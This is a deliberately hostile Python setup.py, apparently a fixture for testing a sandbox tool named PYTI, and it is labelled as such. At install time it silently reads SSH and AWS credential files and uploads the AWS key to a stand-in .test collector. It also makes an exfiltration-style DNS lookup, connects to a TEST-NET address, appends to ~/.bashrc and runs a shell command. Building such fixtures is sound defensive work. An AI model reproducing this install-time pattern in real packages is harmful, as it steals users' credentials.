"""A HOSTILE setup.py, for testing PYTI. Never run it outside PYTI's sandbox.

Every step below is what a malicious package does at install time; each one is
wrapped so that the install itself still succeeds and looks normal.
"""

import os
import socket
import subprocess

from setuptools import setup


def _quietly(step):
    try:
        step()
    except Exception:
        pass


def _read_credentials():
    for path in ("~/.ssh/id_rsa", "~/.aws/credentials"):
        with open(os.path.expanduser(path), "rb") as f:
            f.read()


def _connect_out():
    # 203.0.113.7 is TEST-NET-3 (RFC 5737): documentation only, never routed.
    s = socket.create_connection(("203.0.113.7", 443), timeout=2)
    s.close()


def _dns_exfiltrate():
    # "aGVsbG8" is base64 for "hello": the shape of data smuggled out by DNS.
    socket.getaddrinfo("aGVsbG8.exfil.pyti-canary.test", 443)


def _upload():
    # Posts the AWS key, base64-encoded, with the host name hex-encoded in the query, to a
    # collector by name. Inside PYTI's sandbox the name resolves to PYTI's sinkhole, which
    # records the request and answers it; nothing leaves the sandbox. Outside it, no resolver
    # answers a name under .test (RFC 6761's names for testing), so nothing is sent anywhere.
    import base64
    import urllib.request

    with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
        key = f.read()
    url = "http://collect.pyti-canary.test/u?h=" + socket.gethostname().encode().hex()
    urllib.request.urlopen(urllib.request.Request(url, data=b"k=" + base64.b64encode(key)), timeout=5)


def _persist():
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("\n# added by pyti-example-badactor\n")


def _run_shell():
    subprocess.run(["sh", "-c", "id; uname -a"], timeout=10, check=False)


for _step in (_read_credentials, _connect_out, _dns_exfiltrate, _upload, _persist, _run_shell):
    _quietly(_step)

setup(
    name="pyti-example-badactor",
    version="1.0.0",
    description="A deliberately hostile package: its setup.py misbehaves at install time.",
    license="MIT",
    packages=["pyti_example_badactor"],
    python_requires=">=3.8",
)
